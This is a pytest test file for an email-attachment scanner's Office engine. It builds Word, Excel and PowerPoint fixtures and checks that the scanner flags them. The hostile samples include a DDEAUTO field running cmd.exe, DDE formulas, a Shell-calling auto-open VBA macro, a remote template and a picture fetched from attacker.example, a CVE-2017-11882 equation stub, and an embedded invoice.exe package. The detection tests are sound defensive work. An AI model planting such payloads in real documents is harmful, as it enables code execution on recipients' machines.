"""The office engine on OOXML files: what the OPC reader finds becomes findings, Word fields in
every part, embedded objects by the rule of `attachguard.engines.office_objects`."""

from __future__ import annotations

import io
import zipfile
from xml.sax.saxutils import escape

import pytest

from attachguard.codes import FindingCode
from attachguard.engines.base import Child, Item, Result
from attachguard.engines.office import OfficeEngine
from attachguard.formats import wordfields
from attachguard.policy import Policy
from attachguard.report import FileType
from support.evasions import (
    CASES,
    PROGRAM,
    Case,
    Entry,
    biff_workbook,
    field,
    office_zip,
    ole_tree,
    presentation,
    vba_project,
    workbook,
    worksheet,
)
from support.oletools_data import docx, ole_file, ole_native, rels_xml, xlsx

ENGINE = OfficeEngine()
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
S = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
MS_REL = "http://schemas.microsoft.com/office/2006/relationships/"
EXCEL_CLSID = "00020820-0000-0000-C000-000000000046"
PACKAGE_CLSID = "0003000C-0000-0000-C000-000000000046"
EQUATION_CLSID = "0002CE02-0000-0000-C000-000000000046"
DDE_COMMAND = 'DDEAUTO c:\\\\Windows\\\\System32\\\\cmd.exe "/k calc.exe"'


def scan(data: bytes, name: str, policy: Policy) -> Result:
    label = name.rsplit(".", 1)[-1]
    return ENGINE.scan(Item(name, data, FileType(label, "", "document")), policy.context())


def codes(result: Result) -> set[str]:
    return {f.code.name for f in result.findings}


def where(result: Result) -> list[tuple[str, str | None]]:
    return [(f.code.name, f.location) for f in result.findings]


# -- the red team's cases, through this engine alone -------------------------------------------

OOXML_CASES = [c for c in CASES if c.cls in ("word-fields", "external-rels", "pptx-actions",
                                             "xlsx-formulas")]  # fmt: skip


@pytest.mark.parametrize("case", OOXML_CASES, ids=[c.id for c in OOXML_CASES])
def test_red_team_cases(case: Case, policy: Policy) -> None:
    """Each hostile case gets its code; each benign look-alike no finding and no child."""
    result = scan(case.build(), case.name, policy)
    if case.hostile:
        assert case.expect_code in codes(result)
    else:
        assert result.findings == [] and result.children == []


# -- relationships -----------------------------------------------------------------------------


def test_remote_template_names_its_relationship_not_its_target(policy: Policy) -> None:
    url = "https://attacker.example/template.dotm"
    settings = {
        "word/settings.xml": f'<w:settings xmlns:w="{W}"/>'.encode(),
        "word/_rels/settings.xml.rels": rels_xml([("attachedTemplate", url, True)]),
    }
    data = docx(rels=[("settings", "settings.xml", False)], parts=settings)
    [found] = scan(data, "letter.docx", policy).findings
    assert (found.code, found.label, found.location) == (
        FindingCode.EXTERNAL_LINK,
        "attachedTemplate",
        "word/_rels/settings.xml.rels",
    )
    assert found.message == (
        "a template loaded from outside the file (a network address) in the Word document"
    )
    assert "attacker" not in repr(found)


@pytest.mark.parametrize(
    ("rel", "target", "external"),
    [
        ("image", "https://cdn.example/logo.png", True),
        ("http://schemas.example/relationships/tracker", "\\\\host\\share\\x", True),
        ("video", "file://mediaserver/Public/v.mp4", True),  # a local one is allowed
    ],
    ids=["image-url", "custom-type-unc", "video-share"],
)
def test_relationships_of_any_type_to_outside_targets(
    rel: str, target: str, external: bool, policy: Policy
) -> None:
    assert codes(scan(docx(rels=[(rel, target, external)]), "a.docx", policy)) == {"EXTERNAL_LINK"}


@pytest.mark.parametrize(
    ("rel", "target"),
    [("hyperlink", "https://shop.example/orders/1"), ("hyperlink", "mailto:help@shop.example"),
     ("attachedTemplate", "file:///C:/Users/me/Templates/Letter.dotm")],
    ids=["hyperlink", "mailto", "local-template"],
)  # fmt: skip
def test_links_that_stay_allowed(rel: str, target: str, policy: Policy) -> None:
    assert scan(docx(rels=[(rel, target, True)]), "a.docx", policy).findings == []


def test_part_no_relationship_reaches_is_not_read(policy: Policy) -> None:
    """Office never reads an unreachable part: a DDE formula there runs nowhere."""
    sheet = worksheet("<c r=\"A1\"><f>cmd|' /C calc'!A0</f></c>")
    data = xlsx(parts={"xl/worksheets/orphan.xml": sheet})
    assert scan(data, "a.xlsx", policy).findings == []


# -- spreadsheets ------------------------------------------------------------------------------


def test_dde_formula_located_at_its_part(policy: Policy) -> None:
    sheet = worksheet("<c r=\"A1\"><f>cmd|' /C calc'!A0</f></c>")
    result = scan(workbook(sheet, "data/orders.xml"), "a.xlsx", policy)
    assert where(result) == [("DDE", "data/orders.xml")]
    assert result.findings[0].label == "formula"


@pytest.mark.parametrize(
    ("element", "code"),
    [("ddeLink", "DDE"), ("oleLink", "EXTERNAL_LINK")],
)
def test_external_link_parts(element: str, code: str, policy: Policy) -> None:
    """A DDE link starts a program; an OLE link updates an object from another file."""
    attrs = 'ddeService="cmd" ddeTopic="/c calc"' if element == "ddeLink" else 'progId="x"'
    link = f'<externalLink xmlns="{S}"><{element} {attrs}/></externalLink>'.encode()
    rels = [("externalLink", "/links/l1.xml", False)]
    result = scan(
        workbook(worksheet(""), rels=rels, extra={"links/l1.xml": link}), "a.xlsx", policy
    )
    assert [(f.code.name, f.label) for f in result.findings] == [(code, element)]


def test_excel4_macro_sheet(policy: Policy) -> None:
    sheet = b'<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"/>'
    rels = [(f"{MS_REL}xlMacrosheet", "macrosheets/sheet1.xml", False)]
    data = xlsx(rels, {"xl/macrosheets/sheet1.xml": sheet})
    [found] = scan(data, "a.xlsx", policy).findings
    assert (found.code, found.message) == (
        FindingCode.XLM_MACRO,
        "Excel 4 (XLM) macros in the Excel workbook",
    )


def test_vba_project_is_judged_by_olevba(policy: Policy) -> None:
    macro = vba_project('Sub Workbook_Open()\r\n    Shell "calc.exe"\r\nEnd Sub')
    rels = [(f"{MS_REL}vbaProject", "code/project.bin", False)]
    [found] = scan(xlsx(rels, {"xl/code/project.bin": macro}), "a.xlsx", policy).findings
    assert (found.code, found.location) == (FindingCode.VBA_MACRO, "xl/code/project.bin")
    assert found.message == (
        "macro-enabled Excel workbook (the macros run automatically and use suspicious commands)"
    )


def test_unreadable_vba_project_still_counts(policy: Policy) -> None:
    rels = [(f"{MS_REL}vbaProject", "vbaProject.bin", False)]
    [found] = scan(xlsx(rels, {"xl/vbaProject.bin": b"garbage"}), "a.xlsx", policy).findings
    assert (found.code, found.message) == (FindingCode.VBA_MACRO, "macro-enabled Excel workbook")


# -- PowerPoint actions ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("shape", "code", "label"),
    [
        ('<a:hlinkClick r:id="" action="ppaction://program"/>', "OFFICE_ACTION",
         "ppaction://program"),
        ('<a:hlinkHover r:id="" action="ppaction://macro?name=Run"/>', "OFFICE_ACTION",
         "ppaction://macro"),
        ('<a:hlinkClick r:id="" action="ppaction://somethingnew"/>', "OFFICE_ACTION", "unknown"),
        ('<a:hlinkHover r:id="rId1"/>', "EXTERNAL_LINK", "hover"),
    ],
    ids=["program-click", "macro-hover", "unknown-action", "link-on-hover"],
)  # fmt: skip
def test_actions(shape: str, code: str, label: str, policy: Policy) -> None:
    rels = [("hyperlink", "https://attacker.example/x", True)]
    [found] = scan(presentation(shape, rels), "deck.pptx", policy).findings
    assert (found.code.name, found.label, found.location) == (code, label, "ppt/slides/slide1.xml")


@pytest.mark.parametrize(
    ("rels", "expected"),
    [([("hyperlink", "notes.pdf", True)], ["hover"]),
     ([("hyperlink", "www.attacker.example/x", True)], ["hover"]),
     ([("hyperlink", "../media/missing.html", False)], ["hover"]),
     ([("hyperlink", "mailto:help@example.com", True)], []),
     ([("slide", "slide1.xml", False)], [])],
    ids=["relative", "host-without-scheme", "missing-part", "mail", "slide-jump"],
)  # fmt: skip
def test_a_hover_opens_anything_outside_the_package(
    rels: list[tuple[str, str, bool]], expected: list[str], policy: Policy
) -> None:
    """A relative target on mouse-over opens the file beside the deck, or the one its hyperlink
    base names, without a click; a slide of the deck and a mail address pass."""
    report = scan(presentation('<a:hlinkHover r:id="rId1"/>', rels), "deck.pptx", policy)
    assert [f.label for f in report.findings if f.code.name == "EXTERNAL_LINK"] == expected


@pytest.mark.parametrize(
    ("command", "expected"),
    [('<p:cmd type="verb" cmd="0"><p:cBhvr/></p:cmd>', ["ppaction://ole"]),
     ('<p:cmd\ttype="verb" cmd="0"><p:cBhvr/></p:cmd>', ["ppaction://ole"]),  # review 102
     ('<p:cmd type="call" cmd="playFrom(0.0)"><p:cBhvr/></p:cmd>', [])],
    ids=["ole-verb", "tab-after-the-name", "media-play"],
)  # fmt: skip
def test_an_animation_that_opens_an_embedded_object(
    command: str, expected: list[str], policy: Policy
) -> None:
    """OLE Action Verbs as an animation: the object opens as the show reaches it, as a click
    on ``ppaction://ole`` opens it; playing a movie is no verb."""
    report = scan(presentation(command), "deck.pptx", policy)
    assert [f.label for f in report.findings if f.code.name == "OFFICE_ACTION"] == expected


def test_a_relationship_id_given_twice_is_judged_by_both(policy: Policy) -> None:
    """Two relationships named rId1: whichever PowerPoint takes, the hover is judged."""
    rels = [("hyperlink", "https://attacker.example/x", True), ("slide", "slide1.xml", False)]
    twice = rels_xml(rels).replace(b'Id="rId2"', b'Id="rId1"')
    assert twice.count(b'Id="rId1"') == 2
    parts = {"ppt__slides___rels__slide1_dot_xml_dot_rels": twice}
    data = presentation('<a:hlinkHover r:id="rId1"/>', (), "", **parts)
    [found] = scan(data, "deck.pptx", policy).findings
    assert (found.code.name, found.label) == ("EXTERNAL_LINK", "hover")


def test_office_action_is_the_engines_own_threat() -> None:
    from attachguard.engines.office import ENGINE as SPEC

    code = FindingCode.OFFICE_ACTION
    assert (code.kind, code.default.value) == ("threat", "reject")
    assert code in SPEC.codes


# -- Word fields ---------------------------------------------------------------------------------


def header(body: str) -> tuple[list[tuple[str, str, bool]], dict[str, bytes]]:
    part = f'<w:hdr xmlns:w="{W}"><w:p>{body}</w:p></w:hdr>'.encode()
    return [("header", "header1.xml", False)], {"word/header1.xml": part}


def test_dde_field_in_a_header(policy: Policy) -> None:
    rels, parts = header(field(DDE_COMMAND))
    [found] = scan(docx(rels=rels, parts=parts), "a.docx", policy).findings
    assert (found.code, found.location, found.label) == (
        FindingCode.DDE,
        "word/header1.xml",
        "DDEAUTO",
    )
    assert found.message == "DDEAUTO field that can run a command in the Word document"


def test_fetching_field_message_keeps_the_target_out(policy: Policy) -> None:
    body = "<w:p>" + field('INCLUDEPICTURE "http://attacker.example/p.png" \\d') + "</w:p>"
    [found] = scan(docx(body), "a.docx", policy).findings
    assert found.code is FindingCode.EXTERNAL_LINK
    assert "attacker" not in found.message


def test_field_in_utf16_part(policy: Policy) -> None:
    document = (
        f'<?xml version="1.0" encoding="UTF-16"?><w:document xmlns:w="{W}"><w:body><w:p>'
        f"{field(DDE_COMMAND)}</w:p></w:body></w:document>"
    ).encode("utf-16")
    data = docx()
    data = _replace_part(data, "word/document.xml", document)
    assert codes(scan(data, "a.docx", policy)) == {"DDE"}


def test_field_never_closed_is_ambiguous(policy: Policy) -> None:
    body = '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> PAGE '
    body += "</w:instrText></w:r></w:p>"
    [found] = scan(docx(body), "a.docx", policy).findings
    assert (found.code, found.label, found.message) == (
        FindingCode.AMBIGUOUS,
        "field",
        "field that is never closed in the Word document",
    )


def test_fields_past_the_limit(policy: Policy, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(wordfields, "MAX_FIELDS", 2)
    body = "<w:p>" + field(" PAGE ") * 3 + "</w:p>"
    [found] = scan(docx(body), "a.docx", policy).findings
    assert (found.code, found.location) == (FindingCode.ARCHIVE_EXPANSION, "word/document.xml")


def test_text_that_quotes_a_field_is_not_one(policy: Policy) -> None:
    body = f"<w:p><w:r><w:t>{escape(DDE_COMMAND)}</w:t></w:r></w:p>"
    assert scan(docx(body), "a.docx", policy).findings == []


# -- embedded objects ----------------------------------------------------------------------------


def embedding(obj: bytes, name: str = "oleObject1.bin", rel: str = "oleObject") -> bytes:
    body = '<w:p><w:r><w:object><o:OLEObject r:id="rId1"/></w:object></w:r></w:p>'
    return docx(body, [(rel, f"embeddings/{name}", False)], {f"word/embeddings/{name}": obj})


def sheet_object(clsid: str = EXCEL_CLSID, /, **more: bytes) -> bytes:
    """An Excel worksheet embedded as an OLE object, as Word stores one."""
    streams = {"\x01CompObj": bytes(64), "\x01Ole": bytes(20),
               "Workbook": biff_workbook([("Sheet1", 0, 0)]), **more}  # fmt: skip
    return ole_tree(streams, clsid)


def test_chart_workbook_is_a_child_not_an_object(policy: Policy) -> None:
    book = xlsx()
    result = scan(embedding(book, "Microsoft_Excel_Worksheet.xlsx", "package"), "a.docx", policy)
    assert result.findings == []
    assert result.children == [Child("word/embeddings/Microsoft_Excel_Worksheet.xlsx", book)]


def test_macros_in_an_embedded_workbook_are_found_when_it_is_scanned(policy: Policy) -> None:
    macro = vba_project("Sub Workbook_Open()\r\nEnd Sub")
    book = xlsx([(f"{MS_REL}vbaProject", "vbaProject.bin", False)], {"xl/vbaProject.bin": macro})
    [child] = scan(embedding(book, "Book.xlsm", "package"), "a.docx", policy).children
    assert codes(scan(child.data, "Book.xlsx", policy)) == {"VBA_MACRO"}


def test_embedded_worksheet_object_is_a_child_not_an_object(policy: Policy) -> None:
    obj = sheet_object()
    result = scan(embedding(obj), "a.docx", policy)
    assert result.findings == []
    assert result.children == [Child("word/embeddings/oleObject1.bin", obj)]


@pytest.mark.parametrize(
    ("obj", "label"),
    [
        (sheet_object(PACKAGE_CLSID), "OLE Package Object (may contain and run any file)"),
        (sheet_object("8F1B2C3D-4E5F-4A6B-9C7D-0E1F2A3B4C5D"), None),
        (sheet_object(**{"\x03OCXNAME": b"x"}), "Microsoft Microsoft Excel 97-2003 Worksheet "
         "(Excel.Sheet.8)"),
        (sheet_object(**{"WordDocument": bytes(600)}), "Microsoft Microsoft Excel 97-2003 "
         "Worksheet (Excel.Sheet.8)"),
    ],
    ids=["package-class", "unknown-class", "activex-stream", "two-applications"],
)  # fmt: skip
def test_worksheet_look_alikes_stay_objects(obj: bytes, label: str | None, policy: Policy) -> None:
    [found] = scan(embedding(obj), "a.docx", policy).findings
    assert (found.code, found.label) == (FindingCode.OLE_OBJECT, label)


def test_exploited_class_names_its_cve(policy: Policy) -> None:
    obj = ole_file({"Equation Native": b"\x1c\x00" + b"A" * 40}, clsid=EQUATION_CLSID)
    [found] = scan(embedding(obj), "a.docx", policy).findings
    assert found.code is FindingCode.OLE_OBJECT and "CVE-2017-11882" in found.message


def test_package_object_and_its_program(policy: Policy) -> None:
    obj = ole_file({"\x01Ole10Native": ole_native("invoice.exe", PROGRAM)}, clsid=PACKAGE_CLSID)
    result = scan(embedding(obj), "a.docx", policy)
    assert [(f.code, f.label, f.message) for f in result.findings] == [
        (FindingCode.OLE_OBJECT, "Package", "embedded object (Package) in the Word document")
    ]
    assert result.children == [Child("word/embeddings/oleObject1.bin/invoice.exe", PROGRAM)]


def test_activex_control_part(policy: Policy) -> None:
    control = (
        b'<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="x"/>'
    )
    data = docx(rels=[("control", "activeX/activeX1.xml", False)],
                parts={"word/activeX/activeX1.xml": control})  # fmt: skip
    [found] = scan(data, "a.docx", policy).findings
    assert (found.code, found.message) == (
        FindingCode.OLE_OBJECT,
        "ActiveX control in the Word document",
    )


# -- ambiguity, damage, limits -----------------------------------------------------------------


def _replace_part(data: bytes, name: str, content: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w") as target:
        for info in source.infolist():
            target.writestr(info, content if info.filename == name else source.read(info))
    return out.getvalue()


def _add_member(data: bytes, name: str, content: bytes) -> bytes:
    out = io.BytesIO(data)
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr(name, content)
    return out.getvalue()


def test_two_entries_for_one_part_are_ambiguous(policy: Policy) -> None:
    hostile = f'<w:document xmlns:w="{W}"><w:body/></w:document>'.encode()
    data = _add_member(docx(), "WORD/Document.xml", hostile)
    result = scan(data, "a.docx", policy)
    assert ("AMBIGUOUS", "WORD/Document.xml") in where(result)


def test_dtd_in_a_relationships_part_is_ambiguous(policy: Policy) -> None:
    rels = rels_xml([]).replace(b"<Relationships", b'<!DOCTYPE x [<!ENTITY a "b">]><Relationships')
    data = _replace_part(docx(), "word/_rels/document.xml.rels", rels)
    assert codes(scan(data, "a.docx", policy)) == {"AMBIGUOUS"}


def test_package_without_content_types_is_damaged(policy: Policy) -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("word/document.xml", f'<w:document xmlns:w="{W}"/>')
    assert codes(scan(out.getvalue(), "a.docx", policy)) == {"CORRUPT"}


def test_relationships_past_the_cap(policy: Policy, monkeypatch: pytest.MonkeyPatch) -> None:
    from attachguard.formats import opc

    monkeypatch.setattr(opc, "MAX_RELATIONSHIPS", 0)
    assert "ARCHIVE_MEMBERS" in codes(scan(docx(), "a.docx", policy))


@pytest.mark.parametrize(
    ("name", "target", "expected"),
    [("word/d\u00f3cument.xml", "d\u00f3cument.xml", {"AMBIGUOUS"}),
     ("word/media/caf\u00e9.xml", "media/caf%C3%A9.xml", {"AMBIGUOUS"}),
     ("word/media/Bild 1 (Kopie) \u00e4.png", None, set()),
     ("word/media/plain.xml", "media/plain.xml", set())],
    ids=["named-by-a-relationship", "named-escaped", "named-by-nothing", "ascii"],
)  # fmt: skip
def test_a_part_name_decoded_apart_is_ambiguous(
    name: str, target: str | None, expected: set[str], policy: Policy
) -> None:
    """A name in UTF-8 without the zip's UTF-8 flag is code page 437 to Office and unzip, UTF-8
    to LibreOffice and Java (red team 104: LibreOffice's main part, a DDEAUTO field in it, was
    unseen): when a relationship names it so, the readers reach different parts. One nothing
    names is read alike (a media file a tool re-zipped without the flag)."""
    extra = [Entry(name, b"<x/>")]
    if target is not None:
        rels = (
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'<Relationship Id="rX" Type="http://x/image" Target="{target}"/></Relationships>'
        )
        extra.append(Entry("word/_rels/extra.xml.rels", rels.encode()))
    data = office_zip(docx("<w:p/>"), lambda entries: [*entries, *extra])
    found = scan(data, "a.docx", policy)
    assert {f.code.name for f in found.findings if f.label == "name-encoding"} == expected
